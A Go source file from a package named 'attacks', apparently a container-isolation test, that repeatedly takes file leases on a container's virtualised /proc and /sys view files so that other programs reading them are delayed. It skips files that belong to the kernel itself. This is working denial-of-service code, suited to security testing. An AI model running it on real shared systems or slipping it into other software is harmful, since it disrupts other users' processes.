package attacks

import (
	"fmt"
	"os/signal"
	"time"

	"golang.org/x/sys/unix"
)

// viewFiles are the files that a view can have.
var viewFiles = []string{"/sys/devices/system/cpu/online", "/proc/cpuinfo", "/proc/meminfo", "/proc/swaps", "/proc/stat"}

// holdLeases repeatedly takes leases on the files of the container's view. It can do this because root in the container owns the files.
// It prints "ready" after the first attempt, and the number of leases whenever this number changes.
func holdLeases(kind string) {
	signal.Ignore(unix.SIGIO)
	lease := map[string]int{"read": unix.F_RDLCK, "write": unix.F_WRLCK}[kind]
	var fds []int
	for _, name := range viewFiles {
		if isOfKernel(name) { // the view does not have the file; a lease would delay other programs of the machine
			continue
		}
		fd, err := unix.Open(name, unix.O_RDONLY|unix.O_CLOEXEC, 0)
		check(err)
		fds = append(fds, fd)
	}
	for last := -1; ; time.Sleep(5 * time.Millisecond) {
		held := 0
		for _, fd := range fds {
			if TakeLease(fd, lease) {
				held++
			}
		}
		if held == last {
			continue
		}
		if last == -1 {
			fmt.Println("ready")
		}
		last = held
		fmt.Println("leases", held)
	}
}

// isOfKernel reports whether no file of a view is mounted over a file of the kernel.
func isOfKernel(name string) bool {
	var s unix.Statfs_t
	err := unix.Statfs(name, &s)
	return err != nil || s.Type == unix.PROC_SUPER_MAGIC || s.Type == unix.SYSFS_MAGIC
}

// TakeLease takes a lease on a file, given a descriptor. If the descriptor already has the lease, TakeLease takes a new lease only while
// the kernel breaks the old lease. It reports whether the descriptor has a lease afterwards.
func TakeLease(fd, lease int) bool {
	if is, _ := unix.FcntlInt(uintptr(fd), unix.F_GETLEASE, 0); is == lease {
		return true
	}
	unix.FcntlInt(uintptr(fd), unix.F_SETLEASE, unix.F_UNLCK)
	_, err := unix.FcntlInt(uintptr(fd), unix.F_SETLEASE, lease)
	return err == nil
}
